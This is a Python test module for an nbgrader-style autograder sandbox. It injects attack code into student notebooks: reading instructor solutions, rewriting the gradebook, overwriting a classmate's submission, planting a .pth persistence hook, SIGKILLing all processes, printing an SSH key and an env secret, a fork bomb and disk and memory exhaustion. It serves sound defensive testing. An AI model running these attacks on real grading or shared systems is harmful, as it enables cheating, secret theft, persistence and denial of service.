"""Submissions that attack the grader from an answer cell, as a dishonest student can.

Each builder takes the released notebook (what the student got) and a :class:`Target`
(what the attacker knows or can guess about the grading machine: the course path,
the venv, a loopback port) and returns the notebook with attack code at the top of
the first answer cell. Attacks that could gain something are wrapped so they print
``ATTACK <name>: ...`` and go on (a failed attack must gain nothing, not crash);
the resource attacks are left to raise, so the cell fails and the status must name
the limit. Every attack is bounded even when no sandbox stops it (memory <= 2 GiB,
<= 200 short-lived processes, <= 1 GiB of file, daemons that exit after 90 s) and its
processes carry ``Target.token`` on their command line so the test can find and kill
survivors.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from . import builders as b


@dataclass
class Target:
    course: str  # absolute course root
    assignment: str
    notebook: str  # notebook name (no extension)
    site_packages: str  # the grader's venv
    port: int  # a TCP server the test runs on 127.0.0.1
    token: str  # unique marker for processes and files the attacks create
    secret_env: str  # name of an environment variable holding a secret
    home: str  # the grader's HOME, holding .ssh/id_secret


def _guarded(name: str, body: str, done: str = "succeeded") -> str:
    """``body`` in a try: prints ``done`` when it ran through (``succeeded`` only where
    running through means the attacker gained something), or what blocked it."""
    return (f"try:\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
            f"    print('ATTACK {name}: {done}')\n"
            f"except BaseException as _exc:\n"
            f"    print('ATTACK {name}: blocked:', type(_exc).__name__, _exc)\n")


def read_source(released, t: Target):
    """exec the solutions of source/: would give full marks."""
    return b.with_first_answer_prefixed(released, _guarded("read_source", f"""
        import json
        _src = json.load(open({t.course!r} + '/source/{t.assignment}/{t.notebook}.ipynb'))
        for _c in _src['cells']:
            if _c['cell_type'] == 'code' and _c['metadata'].get('nbgrader', {{}}).get('solution'):
                exec(''.join(_c['source']), globals())
        """))


def write_gradebook(released, t: Target):
    """Full marks for oneself, 0 for everybody else, straight into gradebook.db."""
    return b.with_first_answer_prefixed(released, _guarded("write_gradebook", f"""
        import sqlite3
        _db = sqlite3.connect('file:' + {t.course!r} + '/gradebook.db?mode=rw', uri=True)
        _db.execute('UPDATE grade SET auto_score = 0, manual_score = 0')
        _db.commit()
        """))


def replace_classmate(released, t: Target):
    """Overwrite the perfect student's submission (graded later) with an untouched one."""
    return b.with_first_answer_prefixed(released, _guarded("replace_classmate", f"""
        import shutil
        _mine = {t.course!r} + '/release/{t.assignment}/{t.notebook}.ipynb'
        shutil.copy(_mine, {t.course!r} + '/submitted/perfect/{t.assignment}/{t.notebook}.ipynb')
        """))


def plant_pth(released, t: Target):
    """A .pth in the grader's venv runs in every later Python process of the instructor."""
    return b.with_first_answer_prefixed(released, _guarded("plant_pth", f"""
        with open({t.site_packages!r} + '/zz_{t.token}.pth', 'w') as _f:
            _f.write("import os; open('/tmp/{t.token}-pth-ran', 'w')\\n")
        """))


def outlive_grading(released, t: Target):
    """A new-session daemon that ignores SIGTERM and keeps rewriting grades.csv."""
    daemon = (f"import os, signal, time  # {t.token}\n"
              f"signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
              f"end = time.time() + 90\n"
              f"while time.time() < end:\n"
              f"    try:\n"
              f"        open({t.course!r} + '/autograded/grades.csv', 'w').write('hacked\\n')\n"
              f"    except OSError:\n"
              f"        pass\n"
              f"    time.sleep(0.5)\n")
    return b.with_first_answer_prefixed(released, _guarded("outlive_grading", f"""
        import subprocess, sys
        subprocess.Popen([sys.executable, '-c', {daemon!r}], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """, done="daemon started (harmless only if it dies with the notebook)"))


def signal_grader(released, t: Target):
    """SIGKILL to the parent, to every process it may signal, and to every pid it can name."""
    return b.with_first_answer_prefixed(released, _guarded("signal_grader", """
        import os, signal
        _killed = []
        for _sig_target in (os.getppid(), -1):
            try:
                os.kill(_sig_target, signal.SIGKILL)
                _killed.append(_sig_target)
            except OSError:
                pass
        for _pid in range(2, 32768):
            if _pid != os.getpid():
                try:
                    os.kill(_pid, signal.SIGKILL)
                    _killed.append(_pid)
                except OSError:
                    pass
        print('signalled', _killed)
        """, done="signals sent (harmless only if the grader goes on)"))


def read_secrets(released, t: Target):
    """Print an environment secret and a key from the grader's HOME into the feedback."""
    return b.with_first_answer_prefixed(released, _guarded("read_secrets", f"""
        import os
        print('env:', os.environ.get({t.secret_env!r}))
        print('home:', open({t.home!r} + '/.ssh/id_secret').read())
        """))


def loopback(released, t: Target):
    """Talk to a server on 127.0.0.1 (the grading machine's own services)."""
    return b.with_first_answer_prefixed(released, _guarded("loopback", f"""
        import socket
        with socket.create_connection(('127.0.0.1', {t.port}), timeout=5) as _s:
            _s.sendall(b'{t.token}')
        """))


def exceed_memory(released, t: Target):
    """Allocate (and touch) 64 MiB blocks up to 2 GiB."""
    return b.with_first_answer_prefixed(released, textwrap.dedent("""
        _hog = []
        for _ in range(32):
            _hog.append(bytearray(64 * 2**20))
        del _hog
        """))


def fork_bomb(released, t: Target):
    """200 processes that each live 60 s (a shell that cannot exec away its token)."""
    return b.with_first_answer_prefixed(released, textwrap.dedent(f"""
        import subprocess
        _procs = [subprocess.Popen(['/bin/sh', '-c', 'sleep 60; : {t.token}']) for _ in range(200)]
        """))


def fill_tmp(released, t: Target):
    """Write up to 1 GiB into /tmp."""
    return b.with_first_answer_prefixed(released, textwrap.dedent(f"""
        with open('/tmp/{t.token}-fill', 'wb') as _f:
            for _ in range(1024):
                _f.write(b'x' * 2**20)
        """))


# name -> (builder, words its status line must contain, or None when it must be clean)
ATTACKS = {
    "attack_read_source": (read_source, None),
    "attack_write_gradebook": (write_gradebook, None),
    "attack_replace_classmate": (replace_classmate, None),
    "attack_plant_pth": (plant_pth, None),
    "attack_outlive": (outlive_grading, None),
    "attack_signal": (signal_grader, None),
    "attack_secrets": (read_secrets, None),
    "attack_loopback": (loopback, None),
    "attack_memory": (exceed_memory, "hit the memory limit"),
    "attack_fork": (fork_bomb, "hit the process limit"),
    "attack_fill_tmp": (fill_tmp, "filled its disk space"),
}
